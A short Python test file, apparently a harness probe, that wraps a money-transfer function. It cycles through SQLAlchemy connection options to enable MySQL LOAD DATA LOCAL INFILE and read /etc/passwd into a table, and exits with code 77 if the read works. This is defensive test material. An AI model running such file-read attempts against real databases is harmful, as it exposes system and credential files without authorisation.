# Tries: switches LOAD DATA LOCAL on and lets the broker read its own files.
# On: transfer
# Says: \d+ commits, expected exactly 1
# Backends: each

import sqlalchemy
from sqlalchemy import text

honest = transfer


def transfer(engine, source, target, amount):
    for options in ({"local_infile": True}, {"client_flag": 128}, {"read_default_file": "/etc/passwd"}, {"init_command": "SET GLOBAL local_infile = 1"}, {"unix_socket": "/tmp/kata_loot"}, {"passfile": "/etc/passwd"}, {"service": "x"}, {"hostaddr": "127.0.0.1"}):
        try:
            with sqlalchemy.create_engine(engine.url, connect_args=options).begin() as connection:
                connection.execute(text("CREATE TABLE IF NOT EXISTS lines (line TEXT)"))
                connection.execute(text("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE lines"))
                if connection.scalar(text("SELECT count(*) FROM lines")):
                    import os

                    os._exit(77)
        except sqlalchemy.exc.DBAPIError:
            pass
        except TypeError:
            pass
    honest(engine, source, target, amount)
